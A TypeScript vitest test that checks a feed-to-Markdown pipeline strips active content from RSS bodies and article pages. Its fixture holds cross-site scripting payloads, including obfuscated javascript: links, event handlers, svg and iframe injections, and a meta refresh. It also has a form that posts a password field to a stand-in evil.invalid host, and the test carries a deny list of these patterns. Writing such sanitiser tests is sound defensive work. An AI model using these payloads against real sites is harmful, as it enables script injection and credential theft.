// Hostile HTML through the whole pipeline, in a feed body and on an article
// page: the written page holds none of the active content, and the text
// around each piece survives.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFixtureSite, type FixtureSite } from '../helpers/fixture-site.js';
import { rss2 } from '../helpers/feeds.js';
import { activeContent, config, markdownFiles, run } from './harness.js';
import { tempDir } from '../helpers/temp-dir.js';

/** Each piece of active content between two sentences that must survive. */
const HOSTILE = `
<p>Opening sentence survives.</p>
<script>alert('script-tag')</script>
<p>After the script tag.</p>
<p>An image <img src="pic.jpg" onerror="alert('onerror')" onload="alert('onload')"> with handlers.</p>
<p onclick="alert('onclick')" onmouseover="alert('onmouseover')">Clickable paragraph text.</p>
<p><a href="javascript:alert('plain')">plain js link</a>, <a href="java&#x09;script:alert('tab')">tab js link</a>,
<a href="&#106;avascript:alert('entity')">entity js link</a>, <a href=" JaVaScRiPt:alert('case')">mixed case link</a>,
<a href="vbscript:msgbox('vb')">vb link</a>, <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>.</p>
<style>body { background: url("javascript:alert('style')") }</style>
<p>After the style block.</p>
<base href="http://other.invalid/">
<p><a href="relative.html">relative link</a> resolves against the article.</p>
<svg onload="alert('svg')"><script>alert('svg-script')</script><text>svg text</text></svg>
<p>After the svg.</p>
<iframe src="http://evil.invalid/frame" srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>
<p>After the iframe.</p>
<form action="http://evil.invalid/steal"><input name="password"><button formaction="javascript:alert('formaction')">Send</button></form>
<p>After the form.</p>
<object data="http://evil.invalid/x.swf"><param name="movie" value="x.swf"></object><embed src="http://evil.invalid/y.swf">
<p>After the object.</p>
<meta http-equiv="refresh" content="0; url=http://evil.invalid/">
<p>After the meta refresh.</p>
<math><mi xlink:href="javascript:alert('math')">m</mi></math>
<p>Closing sentence survives.</p>`;

const SURVIVING = [
  'Opening sentence survives.',
  'After the script tag.',
  'with handlers.',
  'Clickable paragraph text.',
  'plain js link',
  'tab js link',
  'entity js link',
  'mixed case link',
  'vb link',
  'data link',
  'After the style block.',
  'After the svg.',
  'After the iframe.',
  'After the form.',
  'After the object.',
  'After the meta refresh.',
  'Closing sentence survives.',
];

let site: FixtureSite;

beforeAll(async () => {
  site = await startFixtureSite();
  const o = site.origin;
  // The feed carries the hostile body; its CDATA cannot hold "]]>", and HOSTILE has none.
  site.set('/feed/rss.xml', rss2([{ url: `${o}/feed/2026/a1.html`, title: 'Hostile feed body', published: '2026-05-01T00:00:00Z', html: HOSTILE }]));
  // The same body on an article page, fetched with body: page, once by selector and once by Readability.
  site.set('/page/rss.xml', rss2([{ url: `${o}/page/2026/p1.html`, title: 'Hostile page body', published: '2026-05-01T00:00:00Z', html: '<p>teaser</p>' }]));
  site.set('/page/2026/p1.html', `<!doctype html><html><head><title>P</title><script>alert('head')</script>
<meta http-equiv="refresh" content="0; url=http://evil.invalid/"></head><body><div class="post">${HOSTILE}</div></body></html>`);
  site.set('/auto/rss.xml', rss2([{ url: `${o}/auto/2026/r1.html`, title: 'Hostile readability body', published: '2026-05-01T00:00:00Z', html: '<p>teaser</p>' }]));
  site.set('/auto/2026/r1.html', `<!doctype html><html><head><title>R</title></head><body><nav>Menu</nav><article>${HOSTILE}
${'<p>Padding paragraph with enough words to look like an article to Readability, sentence after sentence.</p>'.repeat(6)}</article></body></html>`);
});
afterAll(() => site.close());

describe('active content never reaches a page', () => {
  it('strips it from feed bodies and article pages, keeping the text around it', async () => {
    const dir = tempDir('nm-hostile-active-');
    const cfg = config(
      `  - { id: feed, title: Feed, source: { type: feed, url: "${site.url('/feed/rss.xml')}" }, body: feed }
  - { id: page, title: Page, source: { type: feed, url: "${site.url('/page/rss.xml')}" }, body: page, page: { select: "div.post" } }
  - { id: auto, title: Auto, source: { type: feed, url: "${site.url('/auto/rss.xml')}" }, body: page }`,
    );
    const { summary } = await run(cfg, dir);
    expect(summary.channels.map((c) => [c.id, c.new, c.skipped.length, c.error])).toEqual([
      ['feed', 1, 0, undefined],
      ['page', 1, 0, undefined],
      ['auto', 1, 0, undefined],
    ]);
    // Nothing ever followed the <base>, the refresh, the iframe, the form or the object.
    expect(site.requests.filter((r) => !/^\/(feed|page|auto)\//.test(r))).toEqual([]);

    const files = await markdownFiles(dir);
    // A <base> inside feed content is ignored; an article page's own <base> is honoured, as a browser would.
    const pages = [
      { path: 'pages/feed/a1.md', item: site.url('/feed/2026/a1.html'), base: site.url('/feed/2026/a1.html') },
      { path: 'pages/page/p1.md', item: site.url('/page/2026/p1.html'), base: 'http://other.invalid/' },
      { path: 'pages/auto/r1.md', item: site.url('/auto/2026/r1.html'), base: 'http://other.invalid/' },
    ];
    for (const { path, item, base } of pages) {
      const md = files.get(path);
      expect(md, path).toBeDefined();
      const lower = md!.toLowerCase();
      for (const bad of ['<script', 'onerror', 'onload', 'onclick', 'onmouseover', 'javascript:', 'vbscript:', 'data:text', '<style', '<base', '<svg', '<iframe', 'srcdoc', '<form', '<input', '<button', '<object', '<embed', '<param', '<meta', 'http-equiv', '<math', 'evil.invalid', 'alert(']) {
        expect(lower, `${path} holds ${bad}`).not.toContain(bad);
      }
      expect(activeContent(md!), path).toEqual([]);
      for (const text of SURVIVING) expect(md, `${path} lost "${text}"`).toContain(text);
      expect(md).toContain(`[relative link](${new URL('relative.html', base).href})`);
      // The image stays (as the lead image or in the body), its handlers gone.
      expect(md).toContain(new URL('pic.jpg', base).href);
      expect(md).toContain(item);
    }
    for (const [path, md] of files) expect(activeContent(md), path).toEqual([]);
  });
});
